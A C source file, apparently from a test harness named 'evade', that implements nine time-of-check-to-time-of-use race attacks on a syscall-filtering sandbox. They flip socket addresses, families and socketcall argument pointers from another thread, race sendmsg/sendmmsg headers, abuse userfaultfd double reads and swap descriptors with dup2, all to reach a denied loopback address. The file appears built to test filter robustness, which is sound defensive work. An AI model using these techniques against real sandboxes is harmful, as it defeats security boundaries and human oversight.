/*
 * race.c - another thread changes what was judged before it is used. Denied are
 * 127.0.0.9 as a destination and EVADE_FAMILY; natively `naive` loses these races
 * within a moment.
 */
#include "evade.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile bool stop;
static unsigned tries;

struct flip {
	volatile uint32_t *word;
	uint32_t a, b;
};

static void *flipper(void *arg)
{
	struct flip *f = arg;

	while (!stop) {
		*f->word = f->a;
		for (volatile int i = 0; i < 60; i++)
			;
		*f->word = f->b;
		for (volatile int i = 0; i < 60; i++)
			;
	}
	return NULL;
}

/* Calls `once` again and again while the word flips, until it says THROUGH. */
static enum outcome race(struct flip f, enum outcome (*once)(void *), void *arg)
{
	double end = now() + env_int("EVADE_SECONDS");
	enum outcome o = CLOSED;
	pthread_t t;

	pthread_create(&t, NULL, flipper, &f);
	while (o != THROUGH && now() < end) {
		o = once(arg);
		tries++;
	}
	stop = true;
	pthread_join(t, NULL);
	if (o == THROUGH)
		return through("after %u tries", tries);
	printf("(%u tries) ", tries);
	return closed(EPERM);
}

static const uint32_t good_ip = 0x7f000008, bad_ip = 0x7f000009;

static struct sockaddr_in to_ip(uint32_t ip)
{
	return (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(9),
				    .sin_addr.s_addr = htonl(ip)};
}

/* Is the socket connected to what is denied? */
static bool wrong_peer(int fd)
{
	struct sockaddr_in a = {0};
	socklen_t len = sizeof(a);

	return getpeername(fd, (struct sockaddr *)&a, &len) == 0 &&
	       a.sin_addr.s_addr == htonl(bad_ip);
}

struct ctx {
	int fd;
	void *p;
};

static enum outcome once_connect(void *arg)
{
	struct ctx *c = arg;

	if (k_connect(c->fd, c->p, sizeof(struct sockaddr_in)) < 0)
		return CLOSED;
	return wrong_peer(c->fd) ? THROUGH : CLOSED;
}

/* The address changes in place. */
static enum outcome race_address(void)
{
	struct sockaddr_in *a = low_memory(4096);
	struct ctx c = {k_socket(AF_INET, SOCK_DGRAM, 0), a};

	*a = to_ip(good_ip);
	return race((struct flip){&a->sin_addr.s_addr, htonl(good_ip), htonl(bad_ip)}, once_connect,
		    &c);
}

/* Its family changes: AF_INET is judged, AF_UNSPEC is not. */
static enum outcome race_address_family(void)
{
	struct sockaddr_in *a = low_memory(4096);
	struct ctx c = {k_socket(AF_INET, SOCK_DGRAM, 0), a};
	struct sockaddr_in bad = to_ip(bad_ip), none = bad;
	uint32_t w[2];

	*a = bad;
	none.sin_family = AF_UNSPEC;
	memcpy(&w[0], &none, 4);
	memcpy(&w[1], &bad, 4);
	return race((struct flip){(uint32_t *)a, w[0], w[1]}, once_connect, &c);
}

/* --- the argument block of socketcall --- */

enum { SOCKETCALL = 102 };

static enum outcome once_block_socket(void *arg)
{
	struct ctx *c = arg;
	long fd = int80(SOCKETCALL, 1, (unsigned long)c->p, 0, 0, 0);
	int domain = 0;
	socklen_t len = sizeof(domain);

	if (fd < 0)
		return CLOSED;
	getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len);
	close(fd);
	return domain == env_int("EVADE_FAMILY") ? THROUGH : CLOSED;
}

static enum outcome race_block_family(void)
{
	uint32_t *b = low_memory(4096);
	struct ctx c = {-1, b};

	b[1] = env_int("EVADE_TYPE");
	return race((struct flip){b, AF_INET, env_int("EVADE_FAMILY")}, once_block_socket, &c);
}

static enum outcome once_block_connect(void *arg)
{
	struct ctx *c = arg;
	long ret = int80(SOCKETCALL, 3, (unsigned long)c->p, 0, 0, 0);

	if (ret < 0)
		return CLOSED;
	return wrong_peer(c->fd) ? THROUGH : CLOSED;
}

/* The block's pointer moves from one address to another. */
static enum outcome race_block_pointer(void)
{
	uint32_t *b = low_memory(4096);
	struct sockaddr_in *a = low_memory(4096);
	struct ctx c = {k_socket(AF_INET, SOCK_DGRAM, 0), b};

	a[0] = to_ip(good_ip);
	a[1] = to_ip(bad_ip);
	b[0] = c.fd;
	b[2] = sizeof(*a);
	return race((struct flip){&b[1], (uintptr_t)&a[0], (uintptr_t)&a[1]}, once_block_connect, &c);
}

/* --- sendmsg, sendmmsg --- */

/* A receiver at the denied address: what arrives there got through. */
static int receiver(uint32_t ip, uint16_t *port)
{
	struct sockaddr_in a = to_ip(ip);
	socklen_t len = sizeof(a);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	a.sin_port = *port;
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		return -1;
	getsockname(fd, (struct sockaddr *)&a, &len);
	*port = a.sin_port;
	return fd;
}

struct sendctx {
	int fd, denied;
	struct mmsghdr *m;
	unsigned n;
};

static enum outcome once_send(void *arg)
{
	struct sendctx *c = arg;
	char byte;
	ssize_t ret = c->n > 1 ? k_sendmmsg(c->fd, c->m, c->n, 0)
			       : k_sendmsg(c->fd, &c->m->msg_hdr, 0);

	if (ret < 0)
		return CLOSED;
	return recv(c->denied, &byte, 1, MSG_DONTWAIT) == 1 ? THROUGH : CLOSED;
}

/* kind 0: msg_name; 1: the second message's name; 2: the address itself */
static enum outcome race_send(int kind)
{
	char *mem = low_memory(4096);
	struct sockaddr_in *a = (void *)mem;
	struct mmsghdr *m = (void *)(mem + 256);
	struct iovec *iov = (void *)(mem + 1024);
	uint16_t port = 0;
	int denied = receiver(bad_ip, &port), allowed = receiver(good_ip, &port);

	for (int i = 0; i < 100 && allowed < 0; i++) {
		close(denied);
		port = 0;
		denied = receiver(bad_ip, &port);
		allowed = receiver(good_ip, &port);
	}
	struct sendctx c = {k_socket(AF_INET, SOCK_DGRAM, 0), denied, m, kind == 1 ? 2 : 1};
	if (denied < 0 || allowed < 0)
		return broken("receivers");
	a[0] = to_ip(good_ip);
	a[1] = to_ip(bad_ip);
	a[0].sin_port = a[1].sin_port = port;
	*iov = (struct iovec){mem + 2048, 1};
	for (int i = 0; i < 2; i++)
		m[i].msg_hdr = (struct msghdr){.msg_name = a, .msg_namelen = sizeof(*a),
					       .msg_iov = iov, .msg_iovlen = 1};
	if (kind == 2)
		return race((struct flip){&a->sin_addr.s_addr, htonl(good_ip), htonl(bad_ip)},
			    once_send, &c);
	/* Low memory: the low word of the pointer is all of it. */
	return race((struct flip){(uint32_t *)&m[kind].msg_hdr.msg_name, (uintptr_t)&a[0],
				  (uintptr_t)&a[1]}, once_send, &c);
}

static enum outcome race_msghdr(void) { return race_send(0); }
static enum outcome race_second_message(void) { return race_send(1); }
static enum outcome race_msg_address(void) { return race_send(2); }

/* --- memory that answers when we like: every read is seen --- */

static struct {
	int fd;
	char *page;
	unsigned faults;
} trap;

static void *trap_main(void *arg)
{
	char fill[4096];
	struct uffd_msg msg;
	unsigned turn = 0;

	while (read(trap.fd, &msg, sizeof(msg)) == sizeof(msg)) {
		struct uffdio_copy copy = {.dst = (uintptr_t)trap.page, .src = (uintptr_t)fill,
					   .len = 4096};
		struct sockaddr_in a = to_ip(trap.faults++ ? bad_ip : good_ip);

		memset(fill, 0, sizeof(fill));
		memcpy(fill, &a, sizeof(a));
		ioctl(trap.fd, UFFDIO_COPY, &copy);
		/* Whoever reads again, faults again, and reads something else. */
		for (volatile unsigned spin = turn++ % 64 * 500; spin > 0; spin--)
			;
		madvise(trap.page, 4096, MADV_DONTNEED);
	}
	return arg;
}

static enum outcome read_twice(void)
{
	struct uffdio_api api = {.api = UFFD_API};
	pthread_t t;
	int fd = k_socket(AF_INET, SOCK_DGRAM, 0);

	trap.page = low_memory(4096);
	trap.fd = syscall(SYS_userfaultfd, O_CLOEXEC);
	if (trap.fd < 0 || ioctl(trap.fd, UFFDIO_API, &api) < 0)
		return skip("no userfaultfd here");
	struct uffdio_register reg = {.range = {(uintptr_t)trap.page, 4096},
				      .mode = UFFDIO_REGISTER_MODE_MISSING};
	if (ioctl(trap.fd, UFFDIO_REGISTER, &reg) < 0)
		return skip("no userfaultfd for this memory");
	pthread_create(&t, NULL, trap_main, NULL);
	for (int i = 0; i < 2000; i++) {
		trap.faults = 0;
		k_connect(fd, trap.page, sizeof(struct sockaddr_in));
		if (wrong_peer(fd))
			return through("read %u times", trap.faults);
		usleep(100);
	}
	return closed(EPERM);
}

/* --- descriptor numbers --- */

static int numbers[3];

static void *duper(void *arg)
{
	for (unsigned i = 0; !stop; i++)
		dup2(numbers[1 + i % 2], numbers[0]);
	return arg;
}

/* The number is now one socket, now another: a connect that was judged for one may
 * reach either, but no third one, and both ways natively. */
static enum outcome race_dup2(void)
{
	struct sockaddr_in good = to_ip(good_ip), bad = to_ip(bad_ip);
	double end = now() + env_int("EVADE_SECONDS");
	pthread_t t;
	bool got = false;

	numbers[1] = k_socket(AF_INET, SOCK_DGRAM, 0);
	numbers[2] = open("/dev/null", O_RDWR);
	numbers[0] = dup(numbers[1]);
	pthread_create(&t, NULL, duper, NULL);
	while (now() < end && !got) {
		k_connect(numbers[0], &good, sizeof(good));
		k_connect(numbers[0], &bad, sizeof(bad));
		got = wrong_peer(numbers[1]);
	}
	stop = true;
	pthread_join(t, NULL);
	return got ? through("connected") : closed(EPERM);
}

const struct attack race_attacks[] = {
	{"race-address", race_address},
	{"race-address-family", race_address_family},
	{"race-block-family", race_block_family},
	{"race-block-pointer", race_block_pointer},
	{"race-msghdr", race_msghdr},
	{"race-second-message", race_second_message},
	{"race-msg-address", race_msg_address},
	{"race-read-twice", read_twice},
	{"race-dup2", race_dup2},
	{NULL, NULL},
};
